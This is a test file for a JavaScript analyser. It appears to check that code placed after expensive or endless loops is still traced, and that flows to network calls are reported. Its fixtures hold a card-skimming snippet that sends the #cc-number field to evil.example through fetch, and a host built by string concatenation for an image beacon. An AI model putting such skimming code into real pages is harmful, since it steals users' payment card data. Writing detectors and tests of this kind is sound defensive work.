// Expensive code does not hide the code after it.
import { describe, expect, it } from 'vitest'
import { lookAtCode } from '#program/index.ts'
import { flowsIn, look } from './look.ts'

const thief = `document.querySelector('#cc-number').addEventListener('change', (e) => fetch('https://evil.example/?d=' + e.target.value));`
const long = 'for (let k = 0; k < 9e3; k++) for (let i = 0; i < 9e3; i++);'

describe('the code after it is found, and the run reports that there may be more', () => {
  it.each([
    ['a long loop', long + thief],
    ['a long loop of the same function', `(function () { ${long} ${thief} })()`],
    ['many long loops', `(function () { ${long.repeat(12)} ${thief} })()`],
    ['an endless loop within an endless loop', `for (;;) { for (;;); ${thief} }`],
    ['a loop with a label', `a: while (true) { b: for (;;); }${thief}`],
    ['a text that doubles itself', `var a = 'x'; while (true) a += a;${thief}`],
    ['a long list', `(function () { [...Array(90000).keys()].forEach((a) => { for (let i = 0; i < 90; i++); }); ${thief} })()`],
    ['a function that calls itself without end', `function f(n) { return n ? f(n - 1) + f(n - 1) : 0 } f(140); ${thief}`],
    ['a long loop of a handler', `document.addEventListener('DOMContentLoaded', () => { ${long} ${thief} })`],
  ])('%s', (_, text) => {
    const run = look(text)
    expect(flowsIn(run)).toContain('card > fetch evil.example')
    expect(run.ended).toBe(false)
  })
})

describe('code that nobody called is read completely', () => {
  it.each([
    [
      'where a loop waits for what never comes',
      'var t = { type: 1 }; function all() { var l = []; while (t.type !== 2) l.push(next(t)); return l }',
    ],
    [
      'after another that waits',
      'var t = 1; function a() { while (t) go() } function b(s) { for (var i = 0; i < 900; i++) s.push(i * 2) }',
    ],
  ])('%s', (_, text) => {
    const run = look(text, { sweepStepsMax: 2_000_000, sweptCallStepsMax: 200_000 })
    expect(run.ended).toBe(true)
  })

  it('including code in a loop under a condition that only many rounds would meet', () => {
    const run = look(`function f() { var x = 0; for (;;) { x++; if (x > 1e7) { ${thief} } } }`)
    expect(flowsIn(run)).toContain('card > fetch evil.example')
  })
})

it('takes more steps if more effort is requested', () => {
  const text = 'for (let j = 0; j < 1500; j++) for (let i = 0; i < 1000; i++);'
  expect([1, 4].map((effort) => lookAtCode(text, effort).ended)).toEqual([false, true])
})

it('a long loop that ends is run completely', () => {
  const text = `let n = ''; for (let i = 0; i < 20000; i++) if (i % 4000 === 0) n += 'l'; new Image().src = 'https://evi' + n.slice(0, 1) + '.example/' + n`
  const run = look(text)
  expect(run.ended).toBe(true)
  expect(flowsIn(run)).toEqual([' > image evil.example'])
})
